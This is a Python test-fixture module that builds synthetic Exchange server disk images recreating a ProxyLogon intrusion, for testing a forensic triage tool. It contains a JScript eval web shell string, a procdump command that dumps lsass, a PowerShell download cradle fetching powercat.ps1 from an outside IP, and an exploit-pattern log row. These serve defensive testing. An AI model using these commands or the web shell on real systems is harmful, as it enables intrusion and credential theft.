"""Builders of synthetic Windows/Exchange volumes and of the collection layouts that hold them.

Used by the tests and by ``samples/build_samples.py``. Everything written here is made by the
project: small hives from :mod:`triage.testing.regf`, log lines, an inert web shell page, a minidump
header. Layouts: a mounted volume folder, KAPE target output, Velociraptor offline collection.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import struct
import urllib.parse
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

from triage.testing.regf import HiveBuilder

DEFAULT_INSTALL = r"C:\Program Files\Microsoft\Exchange Server\V15"
T0 = datetime(2021, 3, 3, 2, 14, 7, tzinfo=UTC)

# An OAB virtual directory export turned web shell, as CVE-2021-27065 leaves it (inert demo value).
OAB_SHELL = (
    "OfflineAddressBook\r\nName                            : OAB (Default Web Site)\r\n"
    'ExternalUrl                     : http://f/<script language="JScript" runat="server">'
    'function Page_Load(){eval(Request["triage_demo"],"unsafe");}</script>\r\n'
    "InternalUrl                     : https://exch01.corp.example/OAB\r\n"
)
HTTPPROXY_FIELDS = (
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,"
    "UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,"
    "UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,"
    "TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,"
    "RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,"
    "CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,"
    "TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,"
    "SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,"
    "ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,"
    "BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,"
    "HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,"
    "RoutingLatency,HttpProxyOverhead,TotalRequestTime,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,"
    "EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus"
)


def minidump_bytes(size: int = 8192, timestamp: datetime = T0) -> bytes:
    """A file that starts like a real minidump (MDMP signature, version, stream count, time)."""
    header = struct.pack("<4sIIIIIQ", b"MDMP", 0xA793, 3, 32, 0, int(timestamp.timestamp()), 0x61826)
    return header + bytes(size - len(header))


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2021, 3, 3, 4, 1, 0))
            zf.writestr(info, data)
    return buf.getvalue()


@dataclass
class VolumeSpec:
    """What to put on a synthetic Exchange server volume."""

    hostname: str = "EXCH01"
    install_path: str = DEFAULT_INSTALL
    exchange_build: tuple[int, int, int, int] = (15, 1, 2176, 2)  # Exchange 2016 CU19, before the March SU
    compromised: bool = True
    write_software_hive: bool = True
    write_system_hive: bool = True
    event_logs: bool = False  # the attack story (or benign activity) as EVTX, see triage.testing.eventlogs
    all_hives: bool = False  # also SAM, SECURITY, the administrator's NTUSER.DAT and Amcache.hve
    extra_files: dict[str, bytes] = field(default_factory=dict)


def _install_parts(install_path: str) -> list[str]:
    rest = install_path.split(":", 1)[-1]
    return [p for p in rest.replace("\\", "/").split("/") if p]


def software_hive(spec: VolumeSpec) -> bytes:
    hb = HiveBuilder(file_name=r"\SystemRoot\System32\Config\SOFTWARE", timestamp=T0)
    major, minor, build, rev = spec.exchange_build
    setup = r"Microsoft\ExchangeServer\v15\Setup"
    hb.set_value(setup, "MsiInstallPath", spec.install_path.rstrip("\\") + "\\")
    hb.set_value(setup, "MsiProductMajor", major)
    hb.set_value(setup, "MsiProductMinor", minor)
    hb.set_value(setup, "MsiBuildMajor", build)
    hb.set_value(setup, "MsiBuildMinor", rev)
    hb.set_value(r"Microsoft\Windows NT\CurrentVersion", "ProductName", "Windows Server 2016 Standard")
    hb.set_value(r"Microsoft\Windows NT\CurrentVersion", "CurrentBuild", "14393")
    return hb.to_bytes()


def system_hive(spec: VolumeSpec) -> bytes:
    hb = HiveBuilder(file_name=r"\SystemRoot\System32\Config\SYSTEM", timestamp=T0)
    hb.set_value("Select", "Current", 1)
    hb.set_value("Select", "Default", 1)
    hb.set_value(r"ControlSet001\Control\ComputerName\ComputerName", "ComputerName", spec.hostname)
    hb.set_value(r"ControlSet001\Services\Tcpip\Parameters", "Hostname", spec.hostname.lower())
    return hb.to_bytes()


def memory_image_bytes(size: int = 4 << 20) -> bytes:
    """A raw "memory image" of the compromised server: zeros with what the intrusion left in RAM.

    Not a Windows image (no page tables, no kernel): symbol-free scanning finds the planted strings, and the
    Volatility plugins report clearly that no Windows kernel is there. One string straddles the 1 MiB
    boundary so chunked scanning is exercised.
    """
    buf = bytearray(size)
    planted = [
        (0x10_2000, r"C:\root\procdump64.exe -accepteula -ma lsass.exe C:\windows\temp\lsass.dmp".encode("utf-16-le")),
        ((1 << 20) - 40, OAB_SHELL.encode()),  # crosses the first 1 MiB boundary
        (0x28_0000, b"IEX (New-Object System.Net.Webclient).DownloadString('http://103.77.192.219/powercat.ps1')"),
    ]
    for offset, data in planted:
        buf[offset : offset + len(data)] = data
    return bytes(buf)


def more_hives(spec: VolumeSpec) -> dict[str, bytes]:
    """SAM (with the intruder's 'support' account when compromised), SECURITY, NTUSER.DAT, Amcache.hve."""
    from triage.testing.hives import STOCK_ACCOUNTS, Account, amcache_hive, ntuser_hive, sam_hive
    from triage.testing.regf import HiveBuilder

    accounts = list(STOCK_ACCOUNTS)
    amcache: list[tuple[str, datetime]] = [("c:\\windows\\system32\\inetsrv\\w3wp.exe", T0)]
    if spec.compromised:
        accounts.append(
            Account(
                "support",
                1011,
                created=datetime(2021, 3, 3, 2, 45, tzinfo=UTC),
                comment="",
                last_login=datetime(2021, 3, 3, 2, 46, tzinfo=UTC),
                logins=1,
            )
        )
        amcache.append(("c:\\root\\procdump64.exe", datetime(2021, 3, 3, 2, 33, 40, tzinfo=UTC)))
    security = HiveBuilder(file_name=r"\SystemRoot\System32\Config\SECURITY", timestamp=T0)
    security.set_value(r"Policy\PolAdtEv", "", bytes(64), "REG_NONE")
    security.add_key(r"Policy\Secrets")
    return {
        "Windows/System32/config/SAM": sam_hive(accounts).to_bytes(),
        "Windows/System32/config/SECURITY": security.to_bytes(),
        "Users/Administrator/NTUSER.DAT": ntuser_hive("Administrator").to_bytes(),
        "Windows/AppCompat/Programs/Amcache.hve": amcache_hive(amcache).to_bytes(),
    }


def httpproxy_log(rows: list[dict[str, str]]) -> bytes:
    fields = HTTPPROXY_FIELDS.split(",")
    lines = [
        "#Software: Microsoft Exchange Server",
        "#Version: 15.01.2176.002",
        "#Log-type: HttpProxy Logs",
        "#Date: 2021-03-03T00:00:00.000Z",
        "#Fields: " + HTTPPROXY_FIELDS,
    ]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # quotes a field holding a comma, as Exchange does
    for row in rows:
        writer.writerow([row.get(f, "") for f in fields])
    return ("\r\n".join(lines) + "\r\n" + out.getvalue()).encode()


def volume_files(spec: VolumeSpec) -> dict[str, bytes]:
    """Relative path (``/``-separated, from the volume root) -> content."""
    ex = "/".join(_install_parts(spec.install_path))
    files: dict[str, bytes] = {}
    if spec.write_system_hive and spec.all_hives:
        from triage.testing.hives import system_hive as full_system_hive

        # a full server SYSTEM hive: interfaces and IPs, time zone, last shutdown, stock LSA settings
        files["Windows/System32/config/SYSTEM"] = full_system_hive(hostname=spec.hostname).to_bytes()
    elif spec.write_system_hive:
        files["Windows/System32/config/SYSTEM"] = system_hive(spec)
    if spec.write_software_hive:
        files["Windows/System32/config/SOFTWARE"] = software_hive(spec)
    files["Windows/System32/config/SYSTEM.LOG1"] = b""
    files["inetpub/wwwroot/iisstart.htm"] = b"<html><body>IIS</body></html>\r\n"
    files["inetpub/wwwroot/aspnet_client/system_web/4_0_30319/WebUIValidation.js"] = b"// validation\r\n"
    files["inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"] = (
        b"#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 00:00:00\r\n"
        b"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
        b"cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
        b"2021-03-03 02:10:11 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 10.0.0.20 Mozilla/5.0 - 200 0 0 15\r\n"
    )
    from triage.testing.hives import exsetup_exe

    files[f"{ex}/Bin/ExSetup.exe"] = exsetup_exe(spec.exchange_build)  # version resource = the build
    files[f"{ex}/FrontEnd/HttpProxy/owa/auth/logon.aspx"] = b'<%@ Page Language="C#" %>\r\n'
    files[f"{ex}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServiceProxy.aspx"] = b'<%@ Page Language="C#" %>\r\n'
    files[f"{ex}/FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/resources/logon.css"] = b"body{}\r\n"
    files[f"{ex}/FrontEnd/HttpProxy/ecp/auth/TimeoutLogoff.aspx"] = b'<%@ Page Language="C#" %>\r\n'
    benign = {
        "DateTime": "2021-03-03T01:00:00.000Z",
        "RequestId": "3c1a2f1e-0000-4000-8000-000000000001",
        "ClientIpAddress": "10.0.0.20",
        "UrlHost": "mail.corp.example",
        "UrlStem": "/owa/",
        "AnchorMailbox": "SMTP:alice@corp.example",
        "UserAgent": "Mozilla/5.0",
        "HttpStatus": "200",
        "Method": "GET",
        "Protocol": "Owa",
    }
    rows = [benign]
    if spec.compromised:
        rows.append(
            {
                "DateTime": "2021-03-03T02:13:51.113Z",
                "RequestId": "9e1b3c55-1111-4222-8333-444455556666",
                "ClientIpAddress": "167.99.168.251",
                "UrlHost": "mail.corp.example",
                "UrlStem": "/ecp/y.js",
                "RoutingHint": "X-BEResource-Cookie",
                "Protocol": "Ecp",
                "Method": "POST",
                "AnchorMailbox": "ServerInfo~a]@EXCH01.corp.example:444/ecp/proxyLogon.ecp#",
                "UserAgent": "python-requests/2.25.1",
                "HttpStatus": "241",
            }
        )
    files[f"{ex}/Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG"] = httpproxy_log(rows)
    files[f"{ex}/Logging/HttpProxy/Owa/HttpProxy_2021030301-1.LOG"] = httpproxy_log([benign])
    files[f"{ex}/Logging/ECP/Server/ECPServer20210303-1.LOG"] = (
        b"#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n"
    )
    files[f"{ex}/Logging/OABGeneratorLog/OABGeneratorLog_20210303-1.LOG"] = b"#Log-type: OAB Generator Log\r\n"
    if spec.compromised:
        files["inetpub/wwwroot/aspnet_client/system_web/Dk2jQ8ab.aspx"] = OAB_SHELL.encode()
        from triage.testing.minidump import minidump

        # what procdump -ma left: a full minidump whose module list names lsass.exe, written 02:33:44
        lsass = minidump(written=datetime(2021, 3, 3, 2, 33, 44, tzinfo=UTC))
        files["Windows/Temp/lsass.dmp"] = lsass
        files["ProgramData/it.zip"] = zip_bytes({"lsass.dmp": lsass})
    if spec.all_hives:
        files.update(more_hives(spec))
    if spec.event_logs:
        from triage.testing.eventlogs import event_log_files

        files.update(event_log_files(spec.compromised, computer=f"{spec.hostname}.corp.example"))
    files.update(spec.extra_files)
    return files


def build_volume(root: str | os.PathLike[str], spec: VolumeSpec | None = None, mtime: datetime = T0) -> Path:
    """Write a synthetic volume under ``root`` (created); all files get ``mtime``."""
    spec = spec or VolumeSpec()
    root = Path(root)
    stamp = mtime.timestamp()
    for rel, data in volume_files(spec).items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        os.utime(path, (stamp, stamp))
    return root


def to_kape(volume: str | os.PathLike[str], tdest: str | os.PathLike[str], drive: str = "C") -> Path:
    """Lay a volume out as KAPE target output does: ``<tdest>/<drive>/...`` plus a copy log."""
    volume, tdest = Path(volume), Path(tdest)
    shutil.copytree(volume, tdest / drive, copy_function=shutil.copy2)
    lines = ["CopiedTimestamp,SourceFile,DestinationFile,FileSize,SourceFileSha1,DeferredCopy"]
    for path in sorted((tdest / drive).rglob("*")):
        if path.is_file():
            rel = path.relative_to(tdest / drive)
            lines.append(
                f"2021-03-04 10:00:00,{drive}:\\{rel.as_posix().replace('/', chr(92))},{path},"
                f"{path.stat().st_size},,False"
            )
    (tdest / "2021-03-04T100000_CopyLog.csv").write_text("\n".join(lines) + "\n")
    return tdest


def velociraptor_name(name: str) -> str:
    """Velociraptor's file-store encoding of one path component."""
    return urllib.parse.quote(name, safe=" ._-()[]{}~!$&'+,;=@")


def to_velociraptor(
    volume: str | os.PathLike[str],
    out: str | os.PathLike[str],
    *,
    as_zip: bool = False,
    hostname: str = "EXCH01",
    accessor: str = "auto",
) -> Path:
    """Lay a volume out as a Velociraptor offline collection (folder or zip)."""
    volume, out = Path(volume), Path(out)
    members: dict[str, bytes] = {}
    device = "C:" if accessor == "auto" else "\\\\.\\C:"
    for path in sorted(volume.rglob("*")):
        if path.is_file():
            rel = path.relative_to(volume).parts
            name = "/".join(["uploads", accessor, velociraptor_name(device), *(velociraptor_name(p) for p in rel)])
            members[name] = path.read_bytes()
    members["client_info.json"] = (
        f'{{"ClientId": "C.1234567890abcdef", "Hostname": "{hostname}", "Fqdn": "{hostname}.corp.example"}}'.encode()
    )
    members["collection_context.json"] = b'{"session_id": "F.C1", "total_uploaded_files": %d}' % len(members)
    members["log.json"] = b'{"message": "Collection complete"}\n'
    if as_zip:
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_bytes(zip_bytes(members))
        return out
    for name, data in members.items():
        dest = out.joinpath(*name.split("/"))
        dest.parent.mkdir(parents=True, exist_ok=True)
        dest.write_bytes(data)
    return out
